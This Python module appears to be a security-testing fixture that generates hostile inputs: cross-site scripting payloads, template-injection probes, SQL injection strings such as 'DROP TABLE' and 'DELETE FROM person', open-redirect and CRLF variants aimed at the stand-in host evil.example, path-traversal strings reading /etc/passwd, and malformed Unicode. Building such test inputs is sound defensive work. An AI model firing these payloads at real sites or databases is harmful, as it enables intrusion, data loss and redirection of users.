"""Texts that want to be more than text: scripts, statements, addresses elsewhere, odd signs.

Scripts leave a mark that a browser can be asked for: an element, an attribute or an ``alert``. They are
composed here, so that each way out of a place meets each kind of harm.
"""

from __future__ import annotations

from itertools import product

TAGS = tuple(r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<iframe srcdoc='<script>parent.alert(1)</script>'>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror=alert(1)></video>
<input autofocus onfocus=alert(1)>
<body onload=alert(1)>
<math><mtext></mtext><img src onerror=alert(1)>
<object data="javascript:alert(1)"></object>
<a href="javascript:alert(1)">here</a>
<form action="javascript:alert(1)"><button>go</button></form>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<x-mark onclick=alert(1)>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import '//evil.example/x.css';</style>
<embed src="data:text/html,<script>alert(1)</script>">
<audio src onerror=alert(1)>
<select autofocus onfocus=alert(1)></select>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
""".strip("\n").split("\n"))
# What a payload breaks out of before its tag begins.
OUT_OF = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "--><!-- ", "</option></select>", "]]>",
    "</a></p></div>",
)
EVENTS = (
    "onfocus", "autofocus onfocus", "onmouseover", "onpointerenter",
    "style=animation-name:x onanimationstart",
)
ATTRIBUTES = tuple(
    f"{quote}{space}{event}=alert(1){space}x={quote}"
    for quote, space, event in product(("\"", "'", ""), (" ", "/", "\t"), EVENTS)
)
TEMPLATES = tuple(r"""
{{7*7}}
{{ config }}
{%print(7*7)%}
{{''.__class__.__mro__}}
${7*7}
#{7*7}
<%= 7*7 %>
%(csrf_token)s
{0.__class__}
{{ x|safe }}
{% raw %}<x-mark>{% endraw %}
{# <x-mark> #}
""".strip("\n").split("\n"))
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    " javascript:alert(1)", "javascript://x%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "//evil.example/",
    'https://x.example/"onclick=alert(1)', "http://x.example/<x-mark>",
    "www.x.example/'><x-mark>", 'mailto:a@b.example"><x-mark>',
)
LESS_AND_MORE = (
    ("&lt;", "&gt;"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3e;"), ("%3C", "%3E"), ("\\u003c", "\\u003e"),
    ("\\x3c", "\\x3e"), ("\uff1c", "\uff1e"), ("\u2039", "\u203a"), ("+ADw-", "+AD4-"), ("<\u200b", ">"),
    ("\u202e<", ">\u202c"), ("<\u00ad", ">"), ("&lt", "&gt"), ("&amp;lt;", "&amp;gt;"),
)
ENCODED = tuple(
    made.replace("<", less).replace(">", more)
    for (less, more), made in product(LESS_AND_MORE, TAGS[:4])
)
ODDLY_WRITTEN = tuple(
    text for tag in TAGS[:6]
    for text in (tag.swapcase(), tag.replace(" ", "/"), tag[:-1], f"<{tag}", tag.replace("=", " = "))
)


def scripts() -> list[str]:
    """Every payload once, in a fixed order; none has a line break, and each has fewer than 120 signs."""
    broken_out = tuple(f"{out}{tag}" for out, tag in product(OUT_OF, TAGS))
    listed = (*broken_out, *ATTRIBUTES, *TEMPLATES, *ADDRESSES, *ENCODED, *ODDLY_WRITTEN)
    return [text for text in dict.fromkeys(listed) if len(text) < 120]


def together(most: int, texts: list[str] | None = None) -> list[str]:
    """The payloads in as few texts as have at most *most* signs each."""
    whole: list[str] = []
    for text in texts or scripts():
        if whole and len(whole[-1]) + len(text) + 1 <= most:
            whole[-1] += f" {text}"
        else:
            whole.append(text)
    return whole


STATEMENTS = (
    "'", "''", '"', "\\", "' OR '1'='1", "1 OR 1=1", "') OR ('1'='1",
    "'; DROP TABLE crime_case; --", "' UNION SELECT current_user --",
    "' || (SELECT current_user) || '", "'||pg_sleep(3)||'", "1; SELECT pg_sleep(3)",
    "%' OR 1=1 --", "%(force)s", "%s", ":force", "$1", "$$", "E'\\x27'", "/**/", "--",
    "\u02bc OR 1=1", "\uff07 OR 1=1", "' AND 1=CAST((SELECT version()) AS int) --",
    "x' ORDER BY 9 --", "(SELECT 1)", "NULL", "true", "-1", "1e9", "9" * 30, "{force}",
    "' RETURNING * --", "'::text", "\u02bc; DELETE FROM person; --",
)
ELSEWHERE = (
    "//evil.example", "///evil.example", "////evil.example/x", "/\\evil.example",
    "\\/evil.example", "\\\\evil.example", "https://evil.example", "HTTPS://evil.example",
    "https:evil.example", "https:/evil.example", "https:///evil.example",
    "http://evil.example@127.0.0.1", "https://127.0.0.1@evil.example",
    "https://127.0.0.1.evil.example", "/%2fevil.example", "/%5cevil.example",
    "%2f%2fevil.example", "%5c%5cevil.example", "/%09/evil.example", "/\t/evil.example",
    "\t//evil.example", " //evil.example", "//evil.example%2f..", "/..//evil.example",
    "/.//evil.example", "//evil.example:443/", "//[::1]/", "//0x7f000001/",
    "//evil\u3002example", "//\u24d4vil.example", "javascript:alert(1)", "data:text/html,x",
    "vbscript:x", "file:///etc/passwd", "ftp://evil.example", "?//evil.example",
    "#//evil.example", ";//evil.example", "@evil.example", ".evil.example", ":443@evil.example",
    "/\r\nLocation: https://evil.example", "%0d%0aLocation:%20https://evil.example",
    "\u2028//evil.example", "/\x00//evil.example", "cy//evil.example", "cy&next=//evil.example",
    "//%65vil.example",
)
ODD_TEXTS = (
    "\x00", "a\x00b", "\x01", "\x1b[31m", "\x7f", "\x85", "\ud800", "\udfff", "a\ud800b",
    "\u202e", "\u200f\u202b", "\u2066x\u2069", "\ufeff", "\uffff", "\U0010ffff", "e\u0301",
    "A\u030a", "\u1100\u1161", "\u2028", "\u2029", "\r\n", "\n" * 50, "\t", " ", "", "\ufb01",
    "\ufdfa",
    "Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345Z\u0338\u0322\u034d\u0308\u0301\u0345",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "x" * 5000, "0" * 300, "-1",
    "\u0663", "\u2167", "\xb2", "\xbd", "1e400", "NaN", "null", "[]", "{}", "../../etc/passwd",
    "%00", "%ff", "\xff\xfe",
)
